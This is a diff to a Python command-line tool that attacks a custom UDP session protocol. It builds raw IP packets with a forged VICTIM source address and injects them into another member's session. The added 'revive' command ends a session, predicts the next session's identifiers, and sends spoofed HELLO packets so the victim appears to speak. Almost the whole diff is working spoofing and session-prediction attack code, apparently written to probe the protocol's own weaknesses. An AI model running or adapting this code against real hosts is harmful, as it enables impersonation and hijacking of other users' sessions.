@@ -3,6 +3,7 @@
 """Who has a session, by docs/wire-format.md, and speaks from elsewhere then.
 
 forge DEV TO VICTIM COUNT [KEYFILE]	the next COUNT datagrams of its session have VICTIM as their source, and acknowledge more and more
+revive DEV TO VICTIM [KEYFILE]	it ends its session, and foresees the next one of TO: with that, VICTIM seems to be heard
 move DEV TO FROM ANSWERS [KEYFILE]	it goes on from FROM: another address, or another port of its own; ANSWERS: 1, it answers what is asked there
 """
 import json
@@ -13,7 +14,7 @@ import time
 
 from strangers import HELLO, KEEPALIVE, LEN, PORT, Stranger
 
-HELLO_ACK, OWN_ID, NEW_PORT = 2, 0x1234, 18600
+HELLO_ACK, BYE, OWN_ID, NEW_PORT = 2, 4, 0x1234, 18600
 GAP, WATCHED = 0.05, 2.0
 
 
@@ -67,19 +68,44 @@ class Member(Stranger):
         raise SystemExit("no session")
 
 
-def forge(device, to, victim, count, path=None):
+class Forger:
     """The kernel fills in checksum and length of IP; UDP does without a checksum."""
-    member = Member(device, to, path)
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
+
+    def __init__(self, device, victim, to):
+        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0)
+        self.head = ip + socket.inet_aton(victim) + socket.inet_aton(to) + struct.pack("!HHHH", PORT, PORT, 8 + LEN, 0)
+        self.to, self.said = (to, 0), 0
+
+    def say(self, datagram):
+        self.raw.sendto(self.head + datagram, self.to)
+        self.said += 1
+
+
+def forge(device, to, victim, count, path=None):
+    member, forger = Member(device, to, path), Forger(device, victim, to)
     member.join()
-    udp = struct.pack("!HHHH", PORT, PORT, 8 + LEN, 0)
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0) + socket.inet_aton(victim) + socket.inet_aton(to)
     for i in range(int(count)):
-        raw.sendto(ip + udp + member.next((HELLO, KEEPALIVE, HELLO_ACK)[i % 3], i), (to, 0))
+        forger.say(member.next((HELLO, KEEPALIVE, HELLO_ACK)[i % 3], i))
         time.sleep(GAP / 5)
     home = sum(map(member.take, member.until(lambda data: False, WATCHED)))
-    print(json.dumps({"said": int(count), "home": home}))
+    print(json.dumps({"said": forger.said, "home": home}))
+
+
+def revive(device, to, victim, path=None):
+    member, forger = Member(device, to, path), Forger(device, victim, to)
+    member.join()
+    member.socket.sendto(member.next(BYE), member.to)
+    time.sleep(GAP)
+    member.theirs = struct.pack("!Q", struct.unpack("!Q", member.theirs)[0] + 0x10001)
+    for ahead in range(1, 4):
+        for to_id in (member.id, bytes(4)):
+            acknowledged = struct.pack("!I", member.acknowledged + ahead)
+            forger.say(member.control(HELLO, OWN_ID, to_id, member.theirs, acknowledged))
+            time.sleep(GAP)
+    time.sleep(WATCHED / 2)
+    print(json.dumps({"said": forger.said}))
 
 
 def move(device, to, place, answers, path=None):
@@ -110,4 +136,4 @@ def move(device, to, place, answers, path=None):
 
 
 if __name__ == "__main__":
-    {"forge": forge, "move": move}[sys.argv[1]](*sys.argv[2:])
+    {"forge": forge, "revive": revive, "move": move}[sys.argv[1]](*sys.argv[2:])
